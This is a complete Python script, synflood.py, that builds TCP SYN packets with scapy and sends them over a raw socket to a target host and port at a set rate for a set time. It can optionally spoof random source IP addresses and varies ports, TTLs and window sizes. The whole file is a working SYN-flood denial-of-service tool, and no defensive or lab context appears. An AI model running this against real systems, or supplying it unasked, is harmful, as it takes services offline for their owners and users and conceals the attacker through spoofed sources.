"""SYNs made by scapy, each sent once with its own source port: `synflood.py TARGET PORT RATE SECONDS SPOOF(0|1)`."""
import random, socket, sys, time
from scapy.all import IP, TCP

target, port, rate, seconds, spoof = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), float(sys.argv[4]), sys.argv[5] == "1"
wire = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

def packet():
    source = {"src": f"{random.randint(11, 190)}.{random.randint(1, 254)}.{random.randint(1, 254)}.{random.randint(1, 254)}"} if spoof else {}
    return bytes(IP(dst=target, ttl=random.choice((64, 128)), **source) / TCP(
        sport=random.randint(1024, 65535), dport=port, flags="S", seq=random.getrandbits(32), window=random.choice((512, 8192, 64240))))

# Built ahead, as scapy makes some hundreds a second.
made = [packet() for _ in range(2000)]
began = time.time()
sent = 0
while time.time() - began < seconds:
    while sent < (time.time() - began) * rate:
        wire.sendto(made[sent % len(made)], (target, 0))
        sent += 1
    time.sleep(0.002)
